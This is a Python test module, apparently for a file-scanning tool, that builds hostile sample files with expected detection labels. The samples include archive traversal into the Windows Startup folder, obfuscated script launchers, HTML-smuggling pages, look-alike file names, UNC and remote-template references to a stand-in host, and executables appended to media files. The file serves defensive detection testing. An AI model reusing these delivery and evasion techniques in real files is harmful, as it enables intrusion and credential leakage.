"""What was missed when an outsider examined the inspection: hidden streams of rar, small payloads, other veils, and rare places."""

import base64
import struct

from tests.samples.archives import iso_of
from tests.samples.documents import compound_file, mail, ole1, package, rich_text, rtf_object, vba_project
from tests.samples.files import box, pe, shortcut, shortcut_by_items, zip_of
from tests.samples.hostile.cases import Case, Severity, single
from tests.samples.rar5 import WINDOWS_LINK, Part, link, rar5, stream

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW
HOST = "files.example.net"
LINK = shortcut("C:\\Windows\\System32\\cmd.exe", "/c start x")
LONG = base64.b64encode(bytes(range(200))).decode()


def cases() -> list[Case]:
    """Archives, scripts, pages, names, documents, pictures and mails that had slipped through."""
    return [*_archives(), *_scripts(), *_pages(), *_names(), *_documents(), *_pictures(), *_places()]


def _archives() -> list[Case]:
    plan = Part(name="Plan.pdf", body=b"%PDF-1.4 inert")
    start_up = ":..\\..\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk"
    return [
        single("archive: hidden stream", "Invitation.rar", rar5([plan, stream(start_up, LINK)]), "archive.traversal", least=HIGH),
        single("archive: hidden stream", "Plan.rar", rar5([plan, stream(":a.lnk", LINK)]), "shortcut.command", least=HIGH),
        single("archive: hidden stream", "Plan 2.rar", rar5([plan, stream(":a.exe", pe())]), "executable.disguised"),
        single("archive: hidden stream", "Plan.zip", zip_of({"Plan.pdf:..\\a.lnk": LINK}), "archive.traversal", least=HIGH),
        single("archive: link outwards", "Docs.rar", rar5([link("docs", "../../.config")]), "archive.link", least=LOW),
        single("archive: link outwards", "Win.rar", rar5([link("d", "/??/C:/Users", WINDOWS_LINK)]), "archive.link", least=LOW),
        single("image: macros past the mark", "Offer.iso", iso_of({"OFFER.DOCM": _macros()}), "container.mark-of-web-bypass"),
    ]


def _macros() -> bytes:
    return package("docx", {"word/vbaProject.bin": vba_project({"M": "Sub Worksheet_Activate()\nx = 1\nEnd Sub"})})


def _scripts() -> list[Case]:
    page = "".join(f"%{letter:02x}" for letter in b"<script>start the thing</script>")
    texts = [
        ("a.ps1", "$a = -join ([char[]](73,69,88,32,40,78,101,119,45,79,98)); & ([scriptblock]::Create($a))"),
        ("b.ps1", "&(\"{1}{0}\" -f 'ex','i') (\"{1}{0}\" -f 'b','a')"),
        ("c.ps1", "$x='dne eht';$y = $x[-1..-($x.Length)] -join ''; iex $y"),
        ("d.cmd", f"@powershell /w 1 /ec {LONG}"),
        ("e.vbs", 'CreateObject(Replace("W!!S!!c!!r!!i!!p!!t", "!!", "")).Run "x"'),
        ("f.bat", "@set q=abcdefghij\n%q:~2,1%%q:~4,1%%q:~3,1%%q:~1,1% x"),
        ("g.sh", "#!/bin/sh\necho 6563686f | xxd -r -p | sh\n"),
        ("h.command", '#!/bin/bash\nosascript -e "$(echo aGVsbG8= | base64 -D)"\n'),
        ("i.pl", "#!/usr/bin/perl\neval unpack u=>q{_<')I;G0@(DAE;&QO}"),
        ("j.hta", f"<script>document.write(unescape('{page}'))</script>"),
    ]
    sheet = (
        '<?xml version="1.0"?><stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script language="JScript">'
        "var r = new ActiveXObject('x');</ms:script></stylesheet>"
    )
    project = (
        '<Project><UsingTask TaskName="T" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="x.dll"><Task><Code Type="Class">'
        "Process.Start(x)</Code></Task></UsingTask></Project>"
    )
    return [
        *(single("script: a veil of another kind", name, text.encode(), "script.obfuscated", least=HIGH) for name, text in texts),
        single("script within a sheet or project", "style.xsl", sheet.encode(), "script.present"),
        single("script within a sheet or project", "build.csproj", project.encode(), "script.present"),
    ]


def _pages() -> list[Case]:
    small, program = (base64.b64encode(body).decode() for body in (zip_of({"a.js": b"x"}), pe()))
    out = "var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='doc.zip';a.click();"
    scripts = [
        f"var b=new Blob([atob('{small}')]);navigator.msSaveOrOpenBlob(b,'r.zip');",
        f"var b=new Blob([atob('{small[::-1]}'.split('').reverse().join(''))]);{out}",
        f"async function g(){{const h=await showSaveFilePicker();(await h.createWritable()).write(atob('{program}'))}}",
    ]
    pages = [
        single("page with a small file in it", f"Offer {n}.html", f"<html><script>{script}</script></html>".encode(), "html.smuggling")
        for n, script in enumerate(scripts)
    ]
    spelt = b"<svg xmlns='http://www.w3.org/2000/svg'><a href='java&#115;cript:x()'><text y='9'>Open</text></a></svg>"
    return [*pages, single("drawing: an address in numbers", "Logo.svg", spelt, "svg.script")]


def _names() -> list[Case]:
    return [
        single("name: a dot that is none", "Report\uff0epdf.exe", pe(), "name.look-alike", least=HIGH),
        single("name: a dot that is none", "Photo\u2024jpg.scr", pe(), "name.look-alike", least=HIGH),
        single("name: notebook behind a document", "Agenda.docx.one", b"notes", "name.double-extension"),
    ]


def _documents() -> list[Case]:
    in_bytes = "".join(f"\\'{ord(letter):02x}" for letter in f"\\\\{HOST}\\s\\a.dot")
    reference = f'<we:webextension xmlns:we="w"><we:reference id="a" store="\\\\{HOST}\\c" storeType="FileSystem"/></we:webextension>'
    library = rtf_object(ole1("otkloadr.WRAssembly.1", compound_file({"Contents": b"x" * 64})), class_name="otkloadr.WRAssembly.1")
    named = struct.pack("<IHH", 0x851F, 6, 3)
    reminder = {"__properties_version1.0": bytes(32), "__nameid_version1.0/__substg1.0_00030102": named}
    reminder["__substg1.0_8003001F"] = f"\\\\{HOST}\\s\\bell.wav".encode("utf-16-le")
    sheet = (
        '<connections xmlns="s"><connection id="1" refreshOnLoad="1"><webPr url="http://files.example.net/q"/></connection></connections>'
    )
    return [
        single(
            "sheet: data from elsewhere", "Rates.xlsx", package("xlsx", {"xl/connections.xml": sheet.encode()}), "office.remote-template"
        ),
        single("text: template spelt in bytes", "Offer.rtf", f"{{\\rtf1{{\\*\\template {in_bytes}}}x}}".encode(), "office.remote-template"),
        single(
            "document: a page as add-in", "Plan.docx", package("docx", {"word/webextensions/w1.xml": reference.encode()}), "office.addin"
        ),
        single("text: object that loads a library", "Plan.rtf", rich_text(library), "office.embedded-object"),
        single("mail: sound on a foreign machine", "Meeting.msg", compound_file(reminder), "office.remote-template", least=HIGH),
        single("mail: a mail in letters", "Forward.eml", _forwarded(), "mail.dangerous-attachment"),
    ]


def _forwarded() -> bytes:
    inner = base64.encodebytes(mail(attachments=[("Offer.scr", pe())])).decode()
    return f"From: a@example.org\nMIME-Version: 1.0\nContent-Type: message/rfc822\nContent-Transfer-Encoding: base64\n\n{inner}".encode()


def _pictures() -> list[Case]:
    drawing = b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 200_000, 200_000, 8, 3) + bytes(60)
    extents = box(b"ispe", bytes(4) + struct.pack(">II", 90_000, 90_000))
    photograph = box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"meta", bytes(4) + box(b"iprp", box(b"ipco", extents)))
    song = b"ID3\3\0\0\0\0\0\x0a" + bytes(10) + (b"\xff\xfb\x90\x64" + bytes(413)) * 20
    icon = b"\0\0\1\0\1\0" + struct.pack("<BBBBHHII", 16, 16, 0, 0, 1, 32, 40, 22) + struct.pack("<I", 40) + bytes(36)
    return [
        single("picture that fills the memory", "Drawing.psd", drawing, "image.bomb"),
        single("picture that fills the memory", "IMG_1.heic", photograph, "image.bomb"),
        single("behind a song or an icon", "Song.mp3", song + pe(), "type.appended-data", least=HIGH),
        single("behind a song or an icon", "Logo.ico", icon + pe(), "type.appended-data", least=HIGH),
    ]


def _places() -> list[Case]:
    network = b"\x1f\x58" + bytes.fromhex("602c8d20ea3a6910a2d708002b30309d")
    share = b"\xc3\x01\xc1\\\\" + HOST.encode() + b"\\docs\0Microsoft Network\0"
    virtual = b"<<< Oracle VM VirtualBox Disk Image >>>\n".ljust(64, b"\0") + b"\x7f\x10\xda\xbe" + bytes(400)
    return [
        single("link to a program or foreign machine", "Docs.lnk", shortcut_by_items(network, share), "shortcut.remote", least=HIGH),
        single("name: a folder that cannot be seen", "\u00a0/notes.txt", b"notes", "name.invisible-character"),
        single("disk image of a rare kind", "Backup.vdi", virtual, "container.disk-image", least=LOW),
        single("disk image of a rare kind", "Backup.wim", b"MSWIM\0\0\0" + bytes(300), "container.disk-image", least=LOW),
    ]
